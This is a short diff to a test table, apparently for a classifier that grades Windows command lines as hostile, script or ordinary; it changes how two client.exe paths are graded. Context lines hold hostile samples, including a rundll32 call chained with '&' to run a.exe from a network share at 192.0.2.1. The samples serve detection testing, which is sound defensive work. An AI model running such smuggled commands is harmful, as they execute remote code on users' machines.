@@ -18,7 +18,8 @@ const CASES: readonly (readonly [command: string, grade: Grade])[] = [
   ['C:\\Data\\rundll32.exe user32.dll,LockWorkStation', 'hostile'],
   ['rundll32 user32.dll,LockWorkStation & \\\\192.0.2.1\\s\\a.exe', 'hostile'],
   ['mailto:a@example.com?subject=x', 'ordinary'],
-  ['"C:\\Program Files\\ERP\\client.exe" /run', 'script'],
+  ['"C:\\Program Files\\ERP\\client.exe" /run', 'ordinary'],
+  ['"C:\\ERP\\client.exe" /run', 'script'],
   ['cmd /c cscript //nologo backup.vbs', 'script'],
   // A quoted sign joins no commands.
   ['cmd /c "C:\\A & B\\tool.exe" /x', 'script'],
